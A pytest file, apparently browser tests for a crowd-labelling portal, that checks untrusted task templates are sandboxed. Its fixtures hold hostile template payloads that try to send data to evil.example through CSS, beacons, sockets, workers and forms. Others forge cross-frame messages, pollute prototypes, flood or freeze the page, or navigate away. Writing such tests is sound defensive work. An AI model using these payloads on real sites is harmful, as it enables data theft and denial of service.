"""Templates that mean harm, or never end, in the portal itself: what they reach, what the worker can do."""

import pytest

from browser.conftest import PATIENCE_MS, task_of
from browser.portal_pages import HELD, PORTAL_PAGES, TASK, park, site_of
from browser.sandbox import ORIGIN, wait_for

SRC = 'src="{{ task.input.taskObject | grant_read_access }}"'
FORM = (
    f"""<crowd-form><crowd-bounding-box name="b" {SRC} labels="['cat']"></crowd-bounding-box></crowd-form>"""
)
EVIL = "https://evil.example"
SECOND = {**TASK, "task": "000018", "page": "second"}


@pytest.fixture
def portal(chromium):
    """Opens the portal on a template; what the page asked the portal for is in `posted`.

    then: the template from when the portal asks about its task again. held: a path that waits until then.
    """
    contexts = []

    def open_(template, *, second=None, then=None, held=None):
        context = chromium.new_context(locale="en-GB")
        contexts.append(context)
        context.set_default_timeout(PATIENCE_MS)
        site, posted = site_of(PORTAL_PAGES["task"]), []
        site.put_task(template, ("cat",), "/park.png")
        site.put_json("/api/jobs/pets-1/tasks/000017", {"task": TASK})
        if second:
            site.pictures["/second.png"] = park()
            site.put_task(second, ("cat",), "/second.png", "/second")
            site.put_json("/api/jobs/pets-1/tasks", {**HELD, "tasks": [TASK, SECOND]})
        if held:
            site.held[held] = []

        def serve(route):
            if route.request.method == "POST":
                posted.append(route.request.url.removeprefix(f"{ORIGIN}/api/jobs/pets-1/tasks"))
            elif route.request.url.endswith("/tasks/000017"):
                posted.append("looked")
                if then:
                    site.put_task(then, ("cat",), "/park.png")
                    site.held.clear()
            return site.serve(route)

        context.route("**/*", serve)
        page = context.new_page()
        page.goto(f"{ORIGIN}/#/work/pets-1")
        return page, site, posted

    yield open_
    for context in contexts:
        context.close()


LEAKS = f"""<style>@import url('{EVIL}/a.css'); body {{ background: url('{EVIL}/b.png') }}
@font-face {{ font-family: x; src: url('{EVIL}/c.woff') }}
p {{ font-family: x; cursor: url('{EVIL}/d.cur'), auto }}
crowd-bounding-box[labels*="cat"] {{ background: url('{EVIL}/cat') }}</style>
<link rel="stylesheet" href="{EVIL}/e.css"><link rel="prefetch" href="{EVIL}/f">
<link rel="icon" href="{EVIL}/g">
<link rel="preload" as="image" href="{EVIL}/h.png"><link rel="modulepreload" href="{EVIL}/i.js">
<link rel="manifest" href="{EVIL}/j.json"><p>x</p>{FORM}
<video src="{EVIL}/k.mp4"></video><object data="{EVIL}/l"></object><embed src="{EVIL}/m">
<iframe src="{EVIL}/n"></iframe><iframe srcdoc="<img src={EVIL}/o>"></iframe><audio src="{EVIL}/p"></audio>
<svg><image href="{EVIL}/q.png"/><use href="{EVIL}/r.svg#a"/></svg><img srcset="{EVIL}/s.png 1x">
<form id="f" action="{EVIL}/t" method="post" target="_top"><input name="a"></form>
<script src="{EVIL}/u.js"></script>
<script>
const tries = [
  () => navigator.sendBeacon('{EVIL}/1', 'x'), () => new WebSocket('wss://evil.example/2'),
  () => new EventSource('{EVIL}/3'), () => new Worker('{EVIL}/4.js'),
  () => import('{EVIL}/5.js').catch(() => 0),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('{EVIL}/6')"]))),
  () => navigator.serviceWorker.register('/page/0/sw.js').catch(() => 0),
  () => document.getElementById('f').submit(), () => window.open.call(window, '{EVIL}/7'),
  () => {{ parent.location = '{EVIL}/8'; }}, () => top.location.replace('{EVIL}/9'),
  () => {{ document.cookie = 'a=b'; }}, () => localStorage.setItem('a', 'b'), () => indexedDB.open('a'),
  () => caches.open('a').catch(() => 0), () => new BroadcastChannel('a').postMessage('b'),
  () => new RTCPeerConnection({{ iceServers: [] }}).close(), () => parent.document.body.remove(),
];
for (const attempt of tries) {{ try {{ attempt(); }} catch {{ /* as it should be */ }} }}
</script>"""


def test_nothing_of_a_task_leaves_the_machine(portal):
    """Styles, fonts, media, frames, links, forms, workers, sockets, beacons: the browser asks for none."""
    page, site, _ = portal(LEAKS)
    task_of(page)
    page.wait_for_timeout(300)
    assert [address for address in site.refused if "evil" in address] == []
    assert page.url == f"{ORIGIN}/#/work/pets-1"
    assert page.evaluate("() => [document.cookie, localStorage.length]") == ["", 0]
    assert len(page.context.pages) == 1


FORGED = """<script>
const nonce = window.name;
const answer = { type: "answer", answer: { b: { boundingBoxes: [] } }, boxes: [] };
parent.postMessage(answer, "*");
parent.postMessage({ truthmill: "hello", nonce: "" }, "*");
for (let number = 0; number < parent.length; number += 1) {
  const frame = parent.frames[number];
  frame.postMessage(answer, "*");
  frame.postMessage({ truthmill: "begin", nonce }, "*", [new MessageChannel().port1]);
  frame.postMessage({ truthmill: "begin", nonce: "" }, "*", [new MessageChannel().port1]);
}
</script>"""
# It has the port that its own frame was given, as any script before ours may.
AHEAD = """<script>
window.addEventListener("message", (event) => {
  const [port] = event.ports;
  if (!port) return;
  port.postMessage({ type: "answer", answer: { b: { boundingBoxes: [] } }, boxes: [] });
  port.postMessage({ type: "skip", reason: "mine" });
  port.postMessage({ type: "draft", boxes: [], fields: [], job: "pets-1", task: "000017" });
}, true);
</script>"""


def test_a_template_answers_for_no_other_task(portal):
    """Not by messages to the portal or to other frames, nor with the port of a task out of sight."""
    page, _, posted = portal(FORM, second=FORGED + AHEAD + FORM)
    task_of(page)
    page.frame_locator("iframe.task.ahead").locator("img.picture:not([hidden])").wait_for()
    page.wait_for_timeout(300)
    assert posted == [""]
    assert page.evaluate("() => localStorage.length") == 0


FLOODS = {
    "drafts": '{ type: "draft", boxes: Array(200).fill({ label: "x" }), fields: [] }',
    "links": '{ type: "link", address: "https://example.com/" }',
    "nothing": "null",
}


def check_that_it_can_be_skipped(page, site, posted, told):
    """told: what the worker hears of it."""
    site.put_json("/api/jobs/pets-1/tasks/000017/decline", {"tasks": [], "jobStatus": "InProgress"})
    page.get_by_role("alert").filter(has_text=told).wait_for()
    page.get_by_role("button", name="Skip", exact=True).click()
    page.get_by_role("heading", name="No tasks left").wait_for()
    assert posted[-1] == "/000017/decline"


@pytest.mark.parametrize("kind", FLOODS)
def test_a_template_that_floods_the_portal_is_heard_no_more(portal, kind):
    flood = f"""<script>addEventListener("message", ({{ ports: [port] }}) => {{
      setTimeout(() => {{ for (;;) port.postMessage({FLOODS[kind]}); }}, 1000);
    }}, {{ capture: true, once: true }});</script>"""
    page, site, posted = portal(flood + FORM)
    check_that_it_can_be_skipped(page, site, posted, "This task's page doesn't answer")


def test_a_page_that_was_held_up_for_a_while_goes_on(portal):
    """By the portal's clock; the page is told to stand still until it is asked for the last time."""
    held = """<script>addEventListener("message", ({ ports: [port] }) => {
      if (!port) return;
      const post = port.postMessage.bind(port);
      port.postMessage = (message) => (message.type !== "alive" || window.awake) && post(message);
    }, true);</script>"""
    page, _, _ = portal(held + FORM)
    page.clock.install()
    frame = task_of(page)
    page.clock.run_for(26_000)
    told = page.get_by_role("alert").filter(has_text="This task's page doesn't answer")
    told.wait_for()
    frame.locator("body").evaluate("() => { window.awake = true; }")
    page.clock.run_for(6_000)
    told.wait_for(state="hidden")


def test_a_draft_of_any_size_takes_nothing_from_what_is_kept_of_other_tasks(portal):
    big = """<script>document.addEventListener("all-crowd-elements-ready", () => {
      const box = document.querySelector("crowd-bounding-box");
      Object.defineProperty(box, "draft", { get: () => Array(400000).fill({ label: "cat" }) });
      Object.defineProperty(box, "isTouched", { get: () => true });
      setTimeout(() => box.dispatchEvent(new Event("change", { bubbles: true })), 300);
    });</script>"""
    page, _, _ = portal(FORM + big)
    key = "truthmill.kept.ann@example.com.pets-1.000001"
    page.evaluate("key => localStorage.setItem(key, JSON.stringify({ boxes: [], at: Date.now() }))", key)
    page.get_by_role("alert").filter(has_text="This browser can't keep what you draw").wait_for()
    assert page.evaluate("() => Object.keys(localStorage)") == [key]


POLLUTED = """<script>
Object.prototype.polluted = "yes"; Object.prototype.type = "skip"; Object.prototype.hidden = true;
Array.prototype.map = function () { return []; };
JSON.stringify = () => "{}";
</script>"""


def test_a_polluted_page_pollutes_the_portal_not(portal):
    page, _, posted = portal(POLLUTED + FORM)
    page.locator("iframe.task").wait_for()
    page.wait_for_timeout(500)
    own = page.evaluate("() => [({}).polluted, [1].map((one) => one), JSON.stringify([1])]")
    assert own == [None, [1], "[1]"]
    assert posted == [""]


LOOPS = {
    "at once": "while (true);",
    "later": "document.addEventListener('all-crowd-elements-ready', () => { for (;;); });",
    "once it is shown": """document.addEventListener('truthmill-picture', () => {
      setTimeout(() => { for (;;); }, 500);
    });""",
}


@pytest.mark.parametrize("when", LOOPS)
def test_a_template_that_never_ends_leaves_the_portal_alive_and_can_be_skipped(portal, when):
    page, site, posted = portal(f"{FORM}<script>{LOOPS[when]}</script>")
    site.put_json("/api/jobs/pets-1/tasks/000017/decline", {"tasks": [], "jobStatus": "InProgress"})
    page.locator("iframe.task").first.wait_for()
    if when != "later":
        told = page.get_by_role("alert").filter(has_text="This task's page doesn't answer")
        told.wait_for(
            timeout=60_000
        )  # in earnest: a clock of ours would be set in the frame too, and wait for it
        page.get_by_role("button", name="Skip", exact=True).click()
        page.get_by_role("heading", name="No tasks left").wait_for()
        assert posted[-1] == "/000017/decline"
    page.get_by_role("button", name="Your jobs").last.click()
    page.get_by_role("heading", name="Your jobs").wait_for()


MOMENTS = {  # of a task's page: when it has loaded, while its picture is on the way, before it has its port
    "loaded": ("window", "load"),
    "loading": ("document", "DOMContentLoaded"),
    "greeting": ("document", "all-crowd-elements-ready"),
}


def leaving(act, when):
    """A task's page that goes away by itself."""
    target, event = MOMENTS[when]
    later = act if when == "greeting" else f"""setTimeout(() => {{ name = "another"; {act} }}, 100)"""
    return f"""{FORM}<script>{target}.addEventListener("{event}", () => {{ {later} }});</script>"""


REFRESH = """const refresh = Object.assign(document.createElement("meta"), { httpEquiv: "refresh" });
refresh.content = "0;url=about:blank"; document.head.append(refresh);"""
SAYS_NOTHING = (
    '<script>addEventListener("pagehide", (event) => event.stopImmediatePropagation(), true);</script>'
)
WAYS_OUT = {
    "another site": (f'location.href = "{EVIL}";', "loaded"),
    "the portal": ('location.href = "/";', "loaded"),
    "the portal's API": ('location.href = "/api/session";', "loaded"),
    "data": ('location.href = "data:text/html,x";', "loaded"),
    "about:blank": ('location.href = "about:blank";', "loaded"),
    "a refresh": (REFRESH, "loaded"),
    "about:blank before it has loaded": ('location.href = "about:blank";', "loading"),
    "another site before it has loaded": (f'location.href = "{EVIL}";', "loading"),
    "its document is written over": ('document.write("x");', "loaded"),
    "its document is written anew": ('document.open(); document.write("x"); document.close();', "loading"),
    "its document is written anew before it has its port": (
        'document.open(); document.write("x"); document.close();',
        "greeting",
    ),
    "its form is put away": ('document.querySelector("crowd-form").remove();', "loaded"),
}


def check_that_it_comes_back(page, site, posted, after_ms=0):
    """after_ms: how long the portal waits for a word of it, by the page's clock."""
    site.put_json("/api/jobs/pets-1/tasks/000017/answer", {"tasks": [], "jobStatus": "Completed"})
    if after_ms:
        wait_for(page, lambda: page.frames[-1].url == "about:blank", "the page doesn't leave")
        page.clock.run_for(after_ms)
    wait_for(page, lambda: "looked" in posted, "the portal doesn't ask what became of the task")
    with page.expect_request("**/answer"):
        task_of(page).get_by_role("button", name="Nothing here").click()
    page.get_by_role("heading", name="No tasks left").wait_for()
    assert posted[-1] == "/000017/answer"
    assert posted.count("looked") == 1
    assert [address for address in site.refused if "evil" in address] == []


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_page_that_a_task_leaves_for_is_not_shown_and_the_task_comes_back(portal, way):
    act, when = WAYS_OUT[way]
    held = None if when == "loaded" else "/park.png"
    check_that_it_comes_back(*portal(leaving(act, when), then=FORM, held=held))


def test_a_page_that_leaves_without_a_word_before_it_has_loaded_is_found_out(portal):
    """It has greeted, and once was the only page that the frame had loaded; nobody answers for that load."""
    template = SAYS_NOTHING + leaving('location.href = "about:blank";', "loading")
    page, site, posted = portal(template, then=FORM, held="/park.png")
    page.clock.install()
    check_that_it_comes_back(page, site, posted, after_ms=10_000)


def test_a_page_that_always_leaves_can_be_skipped(portal):
    page, site, posted = portal(leaving('location.href = "about:blank";', "loaded"))
    check_that_it_can_be_skipped(page, site, posted, "This task's page goes away by itself")


def test_a_page_that_loads_itself_again_goes_on_with_what_was_drawn(portal):
    again = f"""{FORM}<script>addEventListener("message", ({{ data, ports }}) => {{
      if (ports[0]) document.addEventListener("dblclick", () => location.reload());
    }});</script>"""
    page, site, _ = portal(again)
    site.put_json("/api/jobs/pets-1/tasks/000017/answer", {"tasks": [], "jobStatus": "Completed"})
    frame = task_of(page)
    frame.get_by_test_id("stage").press("b")
    for key in ("Enter", "Control+ArrowRight", "Control+ArrowDown", "Enter"):
        page.keyboard.press(key)
    frame.get_by_role("button", name="cat, left").first.wait_for()
    frame.locator("body").evaluate("body => body.setAttribute('data-before', '')")
    frame.get_by_role("heading", name="Boxes (1)").dblclick()
    frame.locator("body:not([data-before])").wait_for()
    frame.get_by_role("button", name="cat, left").first.wait_for()
    with page.expect_request("**/answer") as asked:
        frame.get_by_role("button", name="Submit", exact=True).click()
    assert len(asked.value.post_data_json["answer"]["b"]["boundingBoxes"]) == 1


def test_where_the_instructions_lead_is_shown_and_opened_by_the_worker_alone(portal):
    link = '<p><a href="https://example.com/guide?a=1&amp;b=<b>">The guide</a></p>'
    page, site, _ = portal(FORM + link)
    frame = task_of(page)
    frame.get_by_role("link", name="The guide").click()
    shown = page.get_by_role("link", name="https://example.com/guide?a=1&b=%3Cb%3E")
    shown.wait_for()
    assert (shown.get_attribute("target"), shown.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    assert site.refused == []
    page.get_by_role("button", name="Close").click()
    shown.wait_for(state="detached")
    frame.locator("body").evaluate("() => window.open('javascript:alert(1)')")
    page.wait_for_timeout(100)
    assert page.get_by_role("alert").count() == 0
